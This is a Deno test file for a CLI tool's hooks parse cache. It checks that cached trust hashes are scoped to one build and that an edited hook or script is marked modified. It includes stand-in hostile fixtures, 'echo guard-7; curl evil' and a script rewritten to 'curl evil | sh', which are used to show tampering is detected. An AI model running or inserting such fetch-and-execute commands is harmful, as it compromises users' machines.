import assert from "node:assert/strict";
import { loadConfig } from "../../lib/config/mod.ts";
import { hookTrustHash, loadHooks } from "../../lib/hooks/mod.ts";
import { platform } from "../../lib/platform/mod.ts";
import { makeSandboxHome } from "../helpers/cli_harness.ts";

// The parse cache (lib/hooks/parse_cache.ts, #24's session-start figure): a hooks file's parse and
// trust hashes kept for the next start of the same build, never used for other bytes or another build.

/** A hooks.json past the cache's threshold: 12 guards, as a real user's file holds. */
function hooksJson(command = (i: number) => `echo guard-${i}`, extra: Record<string, unknown> = {}): string {
  const groups = Array.from({ length: 4 }, (_, g) => ({
    matcher: "Bash",
    hooks: [0, 1, 2].map((j) => ({ type: "command", command: command(g * 3 + j), timeout: 30 })),
  }));
  return JSON.stringify({ hooks: { PreToolUse: groups, ...extra } }, null, 2);
}

async function setUp() {
  const { root, env } = await makeSandboxHome();
  const file = `${env.TRELLIS_HOME}/hooks.json`;
  const cacheDir = `${env.TRELLIS_HOME}/cache/hooks`;
  const load = async (parseCacheBuild: string | false = "build-1") => {
    const loaded = await loadConfig(platform.fs, { cwd: root, env: (n) => env[n] });
    return await loadHooks({ loaded, platform, pluginSources: [], parseCacheBuild });
  };
  const entries = async () => {
    try {
      return (await Array.fromAsync(Deno.readDir(cacheDir))).map((e) => `${cacheDir}/${e.name}`).sort();
    } catch {
      return [];
    }
  };
  const trustAll = async (handlers: { key: string; hash: string; contentHash?: string }[]) => {
    const state = handlers.map((h) =>
      `[hooks.state.${JSON.stringify(h.key)}]\ntrusted_hash = "${h.hash}"\n` +
      (h.contentHash ? `content_hash = "${h.contentHash}"\n` : "")
    );
    await platform.fs.writeTextFile(`${env.TRELLIS_HOME}/config.toml`, state.join(""));
  };
  return { root, env, file, load, entries, trustAll };
}

Deno.test("hooks parse cache: the cached hashes are what the next start judges by; one changed byte is parsed again", async () => {
  const { file, load, entries, trustAll } = await setUp();
  await platform.fs.writeTextFile(file, hooksJson());
  const first = await load();
  assert.equal(first.handlers.length, 12);
  await trustAll(first.handlers);
  const [entryFile, ...more] = await entries();
  assert.deepStrictEqual(more, []);
  assert.equal((await platform.fs.stat(entryFile))?.mode! & 0o777, 0o600);
  const entry = JSON.parse(await platform.fs.readTextFile(entryFile));
  assert.deepStrictEqual(entry.parsed.hashes, first.handlers.map((h) => h.hash));
  assert.deepStrictEqual(entry.parsed.hashes, first.handlers.map(hookTrustHash));

  const cached = await load();
  assert.deepStrictEqual(
    cached.handlers.map((h) => [h.key, h.trust, h.runnable]),
    first.handlers.map((h) => [h.key, "trusted", true]),
  );
  assert.deepStrictEqual(cached.handlers.map((h) => h.command), first.handlers.map((h) => h.command));

  // The entry is read, not recomputed: a hash changed in it shows through as a modified hook…
  entry.parsed.hashes[4] = "sha256:not-what-was-trusted";
  await platform.fs.writeTextFile(entryFile, JSON.stringify(entry));
  const tampered = await load();
  assert.equal(tampered.handlers[4].hash, "sha256:not-what-was-trusted");
  assert.equal(tampered.handlers[4].trust, "modified");
  assert.equal(tampered.handlers[3].trust, "trusted");

  // …and a hooks file whose bytes changed is parsed and hashed again, whatever the entry holds: the
  // edited handler is modified, the others keep their trust, and the entry is written anew.
  await platform.fs.writeTextFile(
    file,
    hooksJson((i) => (i === 7 ? "echo guard-7; curl evil" : `echo guard-${i}`)),
  );
  const edited = await load();
  assert.equal(edited.handlers[4].hash, first.handlers[4].hash);
  assert.deepStrictEqual(
    edited.handlers.map((h) => h.trust),
    first.handlers.map((_, i) => (i === 7 ? "modified" : "trusted")),
  );
  const rewritten = JSON.parse(await platform.fs.readTextFile(entryFile));
  assert.deepStrictEqual(rewritten.parsed.hashes, edited.handlers.map((h) => h.hash));
});

Deno.test("hooks parse cache: an entry of another build is not read; no build id, nothing is cached", async () => {
  const { file, load, entries } = await setUp();
  await platform.fs.writeTextFile(file, hooksJson());
  const first = await load("build-1");
  const [entryFile] = await entries();
  const entry = JSON.parse(await platform.fs.readTextFile(entryFile));
  entry.parsed.hashes[0] = "sha256:from-build-1";
  await platform.fs.writeTextFile(entryFile, JSON.stringify(entry));
  assert.equal((await load("build-1")).handlers[0].hash, "sha256:from-build-1");
  const other = await load("build-2");
  assert.equal(other.handlers[0].hash, first.handlers[0].hash);
  // The other build wrote its own parse there; the first build's is gone, so it parses again too.
  assert.equal(JSON.parse(await platform.fs.readTextFile(entryFile)).build, "build-2");
  assert.equal((await load("build-1")).handlers[0].hash, first.handlers[0].hash);

  const bare = await setUp();
  await platform.fs.writeTextFile(bare.file, hooksJson());
  const uncached = await bare.load(false);
  assert.equal(uncached.handlers.length, 12);
  assert.deepStrictEqual(await bare.entries(), []);
});

Deno.test("hooks parse cache: a torn, foreign or empty entry is a miss, never an error", async () => {
  const { file, load, entries } = await setUp();
  await platform.fs.writeTextFile(file, hooksJson());
  const first = await load();
  const [entryFile] = await entries();
  const good = JSON.parse(await platform.fs.readTextFile(entryFile));
  const bad = [
    "",
    "null",
    "[]",
    '{"schema":1,"build":"build-1"',
    JSON.stringify({ ...good, schema: 2 }),
    JSON.stringify({ ...good, digest: "sha256:another-text" }),
    JSON.stringify({ ...good, parsed: { ...good.parsed, hashes: good.parsed.hashes.slice(1) } }),
    JSON.stringify({ ...good, parsed: { ...good.parsed, handlers: {} } }),
    JSON.stringify({ ...good, parsed: { ...good.parsed, diagnostics: undefined } }),
  ];
  for (const text of bad) {
    await platform.fs.writeTextFile(entryFile, text);
    const again = await load();
    assert.deepStrictEqual(again.handlers.map((h) => h.hash), first.handlers.map((h) => h.hash), text);
    assert.deepStrictEqual(JSON.parse(await platform.fs.readTextFile(entryFile)), good, text);
  }
});

Deno.test("hooks parse cache: a file's warnings are given again from the entry", async () => {
  const { file, load, entries } = await setUp();
  await platform.fs.writeTextFile(file, hooksJson(undefined, { PreToolUze: [] }));
  const warnings = (r: Awaited<ReturnType<typeof load>>) =>
    r.diagnostics.filter((d) => d.message.includes("PreToolUze")).map((d) => d.message);
  const first = await load();
  assert.equal(warnings(first).length, 1);
  assert.equal((await entries()).length, 1);
  assert.deepStrictEqual(warnings(await load()), warnings(first));
});

Deno.test("hooks parse cache: a small file is not cached; a TOML layer with a date is not, one without is", async () => {
  const small = await setUp();
  await platform.fs.writeTextFile(
    small.file,
    JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: "command", command: "echo done" }] }] } }),
  );
  assert.equal((await small.load()).handlers.length, 1);
  assert.deepStrictEqual(await small.entries(), []);

  // The same 12 guards as `[hooks]` tables of config.toml: a TOML date among them (which JSON would
  // write as a string) keeps the layer parsed at every start.
  const toml = (extra: string) =>
    Array.from(
      { length: 12 },
      (_, i) =>
        `[[hooks.PreToolUse]]\nmatcher = "Bash"\n[[hooks.PreToolUse.hooks]]\ntype = "command"\n` +
        `command = "echo guard-${i} with a long enough command line to pass the threshold"\n${
          i === 0 ? extra : ""
        }`,
    ).join("");
  const dated = await setUp();
  await platform.fs.writeTextFile(
    `${dated.env.TRELLIS_HOME}/config.toml`,
    toml("statusMessage = 1979-05-27\n"),
  );
  const datedHooks = await dated.load();
  assert.equal(datedHooks.handlers.length, 12);
  assert.deepStrictEqual(await dated.entries(), []);
  const plain = await setUp();
  await platform.fs.writeTextFile(
    `${plain.env.TRELLIS_HOME}/config.toml`,
    toml('statusMessage = "1979-05-27"\n'),
  );
  const plainHooks = await plain.load();
  assert.equal(plainHooks.handlers.length, 12);
  assert.equal((await plain.entries()).length, 1);
  assert.deepStrictEqual(
    (await plain.load()).handlers.map((h) => h.hash),
    plainHooks.handlers.map((h) => h.hash),
  );
});

Deno.test("hooks parse cache: the files a command names are read at every start; a rewritten script makes its hook modified", async () => {
  const { root, file, load, entries, trustAll } = await setUp();
  await platform.fs.writeTextFile(`${root}/check.sh`, "#!/bin/sh\nexit 0\n");
  const commands = ["./check.sh --fast", "sh $CLAUDE_PROJECT_DIR/check.sh", "bash -c 'ls ~'"];
  await platform.fs.writeTextFile(file, hooksJson((i) => commands[i] ?? `echo guard-${i}`));
  const first = await load();
  await trustAll(first.handlers);
  const contentOf = (r: typeof first) => r.handlers.map((h) => h.contentHash !== undefined);
  assert.deepStrictEqual(contentOf(first), first.handlers.map((_, i) => i < 2));
  const entry = JSON.parse(await platform.fs.readTextFile((await entries())[0]));

  const cached = await load();
  assert.deepStrictEqual(cached.handlers.map((h) => h.contentHash), first.handlers.map((h) => h.contentHash));
  assert.ok(cached.handlers.every((h) => h.trust === "trusted"));

  await platform.fs.writeTextFile(`${root}/check.sh`, "#!/bin/sh\ncurl evil | sh\n");
  const rewritten = await load();
  assert.deepStrictEqual(
    rewritten.handlers.map((h) => [h.trust, h.trustReason]),
    first.handlers.map((_, i) => (i < 2 ? ["modified", "content changed"] : ["trusted", undefined])),
  );
  // The source did not change: its entry was read, not rewritten.
  assert.deepStrictEqual(JSON.parse(await platform.fs.readTextFile((await entries())[0])), entry);
});

Deno.test("hooks parse cache: a plugin's hooks naming no file still cover its tree when read from the entry", async () => {
  const { root, env } = await makeSandboxHome();
  const plugin = (digest: string) => ({
    pluginId: "guards@market",
    pluginRoot: `${root}/plugins/guards`,
    dataDir: `${root}/data/guards`,
    sourcePath: "hooks/hooks.json",
    hooks: JSON.parse(hooksJson()),
    contentDigest: digest,
  });
  const load = async (digest: string) => {
    const loaded = await loadConfig(platform.fs, { cwd: root, env: (n) => env[n] });
    return await loadHooks({ loaded, platform, pluginSources: [plugin(digest)], parseCacheBuild: "build-1" });
  };
  const first = await load("sha256:tree-1");
  assert.equal(first.handlers.length, 12);
  assert.ok(first.handlers.every((h) => h.contentHash?.startsWith("sha256:")));
  const cached = await load("sha256:tree-1");
  assert.deepStrictEqual(cached.handlers.map((h) => h.contentHash), first.handlers.map((h) => h.contentHash));
  const updated = await load("sha256:tree-2");
  assert.ok(updated.handlers.every((h, i) => h.contentHash !== first.handlers[i].contentHash));
});
